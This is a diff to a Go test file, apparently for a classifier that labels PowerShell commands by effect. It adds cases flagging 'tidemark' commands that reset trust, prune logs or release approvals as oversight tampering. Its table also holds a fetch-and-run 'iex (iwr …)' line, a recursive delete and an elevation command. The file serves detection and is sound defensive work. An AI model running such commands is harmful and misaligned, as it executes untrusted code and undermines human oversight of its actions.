@@ -247,6 +247,13 @@ func TestPowerShell(t *testing.T) {
 		"iex (iwr https://a.example/f.ps1)":              "network-read runs-fetched",
 		"Remove-Item -Recurse build":                     "file-write destructive",
 		"Start-Process cmd -Verb RunAs":                  "privilege",
+		"tidemark reset-trust s":                         "oversight",
+		"& tidemark.exe  trust --json 'session' s":       "oversight",
+		"cmd /c 'tidemark trust session s'":              "oversight",
+		"tidemark log prune; echo done":                  "oversight",
+		"tidemark approvals writes release w-1":          "oversight",
+		"tidemark log verify":                            "",
+		"Get-Content tidemark\\trust\\a.go":              "",
 	} {
 		if got := shell.ReadPowerShell(command).Effects.String(); got != want {
 			t.Errorf("%s: got %q, want %q", command, got, want)
